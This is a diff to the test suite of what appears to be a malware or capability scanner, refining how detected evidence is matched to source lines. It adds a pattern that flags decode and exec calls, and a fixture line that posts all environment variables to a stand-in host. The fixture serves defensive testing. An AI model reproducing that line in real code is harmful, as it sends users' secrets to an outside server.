@@ -22,6 +22,11 @@ ROOT = Path(__file__).parent.parent
 PACKAGES = ("_pytest", "hypothesis", "msgspec", "pluggy", "tree_sitter_python")
 #: What is encoded stands for what it decodes to.
 _ENCODED = re.compile(r"[A-Za-z0-9+/=_\\-]{12}|(?:\d+, ?){8}|[^\x00-\x7f]{8}")
+#: What decodes or runs what stands elsewhere.
+_DECODER = re.compile(r"decode|fromhex|atob|Buffer|zlib|base64|exec|eval|getattr", re.IGNORECASE)
+_WORD = re.compile(r"\w{3,}")
+#: Named by a step as its shell, and not in its command.
+_INTERPRETERS = frozenset(("python", "node"))
 #: Evidence that describes, and quotes nothing: of manifests, of measures.
 _DESCRIBED = frozenset(
     ("install-script", "hidden-text", "native-code", "bytecode", "unanalyzed", "persistence")
@@ -87,12 +92,16 @@ def cited(path: str, data: bytes) -> Iterator[tuple[Capability, str]]:
 
 
 def stands_there(record: Capability, line: str) -> bool:
-    """Tell whether the evidence is on the line: as it is, in pieces that were joined, or encoded."""
-    text = record.at.text.strip().splitlines()[0].strip() if record.at.text.strip() else ""
-    if text in line or text in line.replace('\\"', '"'):
-        return True
+    """Tell whether the evidence is on the line: its words, joined of pieces there, or what decodes to it."""
+    text = next(iter(record.at.text.strip().splitlines()), "")
     rest = iter(line)
-    return all(letter in rest for letter in text) or _ENCODED.search(line) is not None
+    if all(letter in rest for letter in text) or set(_WORD.findall(text)) - _INTERPRETERS <= set(
+        _WORD.findall(line)
+    ):
+        return True
+    if record.name in {"encoded-payload", "obfuscation"} or "(decoded: " in record.detail:
+        return _DECODER.search(line) is not None
+    return _ENCODED.search(line) is not None
 
 
 @pytest.mark.parametrize(
@@ -102,3 +111,10 @@ def test_evidence_stands_on_the_cited_line(where: Path) -> None:
     told = (one for path, data in guarded.files(where) for one in cited(path, data))
     wrong = [(record.at, record.name, line) for record, line in told if not stands_there(record, line)]
     assert wrong == []
+
+
+def test_evidence_on_another_line_is_seen() -> None:
+    text = "import os, requests\nrequests.post('https://h.invalid/', data=str(os.environ))\n"
+    (sent, line) = next(pair for pair in cited("a.py", text.encode()) if pair[0].name == "exfiltration")
+    assert stands_there(sent, line)
+    assert not stands_there(sent, text.splitlines()[0])
